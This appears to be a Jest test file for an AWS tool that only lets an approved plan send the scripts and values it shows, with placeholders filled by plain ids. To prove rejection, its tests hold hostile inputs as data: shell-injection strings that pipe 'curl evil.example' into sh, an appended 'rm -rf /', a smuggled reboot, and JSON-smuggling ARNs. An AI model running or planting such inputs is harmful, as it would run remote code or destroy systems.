// The scripts an approved plan lets an apply send: exactly those it shows running, with a
// placeholder filled only by a plain word (a DNS name, an address, an id), never by shell syntax.
import { execFileSync } from 'node:child_process';
import { CreateLaunchTemplateVersionCommand } from '@aws-sdk/client-ec2';
import { SendCommandCommand } from '@aws-sdk/client-ssm';
import { UnapprovedWriteError, underApproval } from '../../src/aws/approved-writes.js';
import { write } from '../../src/aws/writes.js';
import { approvalOf, sameValue, scriptMatcher } from '../../src/plan/approval.js';
import { OFFLINE_FACTS } from '../../src/render/env-files.js';
import { NEW_VALUE, VALUE_PLACEHOLDERS } from '../../src/resources/value-placeholders.js';
import { simulated } from '../fixtures/sim.js';

const planned = `#!/bin/bash\nset -euo pipefail\nISSUER_URL='http://${OFFLINE_FACTS.adminDns}:8080'\nping -c1 <the locust machine, once made>\n`;
const sent = (dns: string, id: string) =>
  `#!/bin/bash\nset -euo pipefail\nISSUER_URL='http://${dns}:8080'\nping -c1 ${id}\n`;

describe('the scripts an approved plan lets run', () => {
  const m = scriptMatcher(planned);

  test('the planned script with its placeholders filled by the names AWS gave', () => {
    expect(m(sent('perf-admin-123.eu-west-1.elb.amazonaws.com', 'i-0abc123'))).toBe(true);
  });

  test('a fill that is not a plain word, or any other change of the text, is another script', () => {
    for (const dns of ["x'; curl evil.example | sh; '", 'a b', 'a\nb', '$(id)', '`id`', ''])
      expect([dns, m(sent(dns, 'i-0abc'))]).toEqual([dns, false]);
    expect(m(sent('perf-admin.elb.amazonaws.com', 'i-0abc').replace('pipefail', 'nounset'))).toBe(false);
    expect(m(`${sent('perf-admin.elb.amazonaws.com', 'i-0abc')}rm -rf /\n`)).toBe(false);
  });

  test('a script without placeholders must be the same text', () => {
    const plain = scriptMatcher('echo hello\n');
    expect(plain('echo hello\n')).toBe(true);
    expect(plain('echo hello \n')).toBe(false);
  });

  test('under the approval, a script the plan does not show running is never sent', async () => {
    const { ctx, sim } = simulated();
    const approval = approvalOf({
      hash: 'b'.repeat(64),
      changes: [],
      scripts: [
        { runs: true, script: planned },
        { runs: false, script: 'echo not this time\n' },
      ],
    });
    const send = (script: string) =>
      underApproval(approval, () =>
        write(
          ctx.clients.ssm,
          new SendCommandCommand({
            DocumentName: 'AWS-RunShellScript',
            InstanceIds: ['i-0abc'],
            Parameters: { commands: [script] },
          }),
          { kind: 'command', name: 'akrida-ops test', in: '1 instances' },
        ),
      );
    const before = sim.mutations().length;
    for (const script of ['echo not this time\n', sent('a.b', "i-0abc'; reboot; '")])
      await expect(send(script)).rejects.toThrow(UnapprovedWriteError);
    await expect(send('echo not this time\n')).rejects.toThrow(
      /SendCommand on 1 instances \("akrida-ops test"\): its script is not one the approved plan bbbbbbbbbbbb shows running: nothing is sent/,
    );
    expect(sim.mutations().slice(before)).toEqual([]);
  });
});

test('a value the plan shows with a placeholder is sent with one word in its place, nothing else', () => {
  const planned = [{ Type: 'forward', TargetGroupArn: '<new perf-example-tg-adm>' }];
  const arn =
    'arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/perf-example-tg-adm/0123456789abcdef';
  expect(sameValue(planned, [{ Type: 'forward', TargetGroupArn: arn }])).toBe(true);
  expect(sameValue(6, 6)).toBe(true);
  expect(sameValue(6, 9)).toBe(false);
  // Only a target group of that name: not another cluster's, not any word.
  for (const fill of [
    arn.replace('perf-example-tg-adm', 'someone-elses-tg'),
    'x',
    `${arn}", "Type": "redirect`,
    'a b',
    '',
    `${arn}"},{"Type":"forward","TargetGroupArn":"x`,
  ])
    expect(sameValue(planned, [{ Type: 'forward', TargetGroupArn: fill }])).toBe(false);
  expect(sameValue(planned, [{ Type: 'redirect', TargetGroupArn: arn }])).toBe(false);
});

test('a list sorted while a member was a placeholder matches its members in any order', () => {
  const arn = (name: string, id: string) =>
    `arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/${name}/${id}`;
  // The plan sorted `<new ...>` first; AWS's ARN for it sorts after the one that existed.
  const planned = ['<new perf-example-tg-trn>', arn('perf-example-tg-adm', '0a')];
  const sent = [arn('perf-example-tg-adm', '0a'), arn('perf-example-tg-trn', '0b')];
  expect(sameValue(planned, sent, 'TargetGroupARNs')).toBe(true);
  // Each member once, each placeholder by its kind: not the existing one twice, not one more.
  expect(sameValue(planned, [arn('perf-example-tg-adm', '0a'), arn('perf-example-tg-adm', '0a')])).toBe(
    false,
  );
  expect(sameValue(planned, [...sent, arn('perf-example-tg-trn', '0c')])).toBe(false);
  expect(sameValue(planned, [arn('perf-example-tg-adm', '0a'), arn('other-tg', '0b')])).toBe(false);
});

test("a value's placeholders are a closed set, each filled only by an id of its kind", () => {
  expect(
    sameValue(
      { ImageId: '<new image>', SecurityGroupIds: ['<perf-sg>'] },
      { ImageId: 'ami-0abc', SecurityGroupIds: ['sg-0123'] },
    ),
  ).toBe(true);
  expect(sameValue({ ImageId: '<new image>' }, { ImageId: 'sg-0abc' })).toBe(false);
  expect(
    sameValue({ LaunchTemplateId: '<new template>' }, { LaunchTemplateId: 'lt-0123456789abcdef0' }),
  ).toBe(true);
  // Angle brackets from elsewhere (a file's health path) are literal, not a wildcard.
  expect(sameValue({ HealthCheckPath: '/<anything>' }, { HealthCheckPath: '/status' })).toBe(false);
});

test('every placeholder a planner writes comes from the one table, and the approval fills each only by its kind', () => {
  const ids = {
    tg: 'arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/x-tg-adm/0a',
    lt: 'lt-0a',
    ami: 'ami-0a',
    sg: 'sg-0a',
    recipe: '0123456789ab',
  };
  const written: [string, string][] = [
    [NEW_VALUE.targetGroup('x-tg-adm'), ids.tg],
    [NEW_VALUE.template, ids.lt],
    [NEW_VALUE.image, ids.ami],
    [NEW_VALUE.perfSg, ids.sg],
    [NEW_VALUE.lbSg, ids.sg],
    [NEW_VALUE.recipe, ids.recipe],
  ];
  for (const [placeholder, fill] of written) {
    expect(VALUE_PLACEHOLDERS.filter(([re]) => re.test(placeholder))).toHaveLength(1);
    for (const other of Object.values(ids))
      expect(sameValue({ Field: placeholder }, { Field: other })).toBe(other === fill);
  }
  // No planner spells a placeholder itself: a literal `<new ...>` or `<perf-sg>` elsewhere in src/.
  const spelled = execFileSync('grep', ['-rlE', "['`]<(new |perf-sg>)", 'src'], { encoding: 'utf8' })
    .split('\n')
    .filter(Boolean);
  expect(spelled).toEqual(['src/resources/value-placeholders.ts']);
});

test("a new template version is sent only with the data the plan shows: ids of their kind, and the user data's placeholders filled by one word", async () => {
  const b64 = (t: string) => Buffer.from(t).toString('base64');
  const userData = (dns: string) => `#!/bin/bash\nISSUER_URL='http://${dns}:8080'\n`;
  const plannedData = {
    ImageId: '<new image>',
    InstanceType: 't3.large',
    SecurityGroupIds: ['<perf-sg>'],
    UserData: b64(userData(OFFLINE_FACTS.adminDns)),
  };
  const template = { kind: 'launch-template' as const, name: 'perf-worker' };
  const approval = approvalOf({
    hash: '2'.repeat(64),
    changes: [
      {
        action: 'change',
        resource: 'launch template perf-worker',
        address: template,
        fields: [{ field: 'LaunchTemplateData', after: plannedData }],
      },
    ],
    scripts: [],
  });
  const { ctx, sim } = simulated();
  const send = (data: Record<string, unknown>) =>
    underApproval(approval, () =>
      write(
        ctx.clients.ec2,
        new CreateLaunchTemplateVersionCommand({ LaunchTemplateId: 'lt-0123', LaunchTemplateData: data }),
        template,
      ),
    ).catch((e: Error) => e);
  const real = {
    ImageId: 'ami-0abc',
    InstanceType: 't3.large',
    SecurityGroupIds: ['sg-0123'],
    UserData: b64(userData('perf-adm-1.us-east-1.elb.amazonaws.com')),
  };
  // AWS answers for a template it does not have: the fence let it through.
  expect(await send(real)).not.toBeInstanceOf(UnapprovedWriteError);
  const before = sim.mutations().length;
  for (const moved of [
    { ...real, InstanceType: 'm5.24xlarge' },
    { ...real, IamInstanceProfile: { Name: 'admin' } },
    { ...real, UserData: b64(`${userData('perf-adm-1.us-east-1.elb.amazonaws.com')}curl evil | sh\n`) },
    { ...real, UserData: b64(userData("x'; curl evil | sh; '")) },
  ])
    expect(await send(moved)).toBeInstanceOf(UnapprovedWriteError);
  expect(sim.mutations().slice(before)).toEqual([]);
  expect(String(await send({ ...real, InstanceType: 'm5.24xlarge' }))).toMatch(
    /CreateLaunchTemplateVersion on launch template perf-worker sets LaunchTemplateData to one whose InstanceType differs; the approved plan 222222222222 shows one whose InstanceType differs/,
  );
});
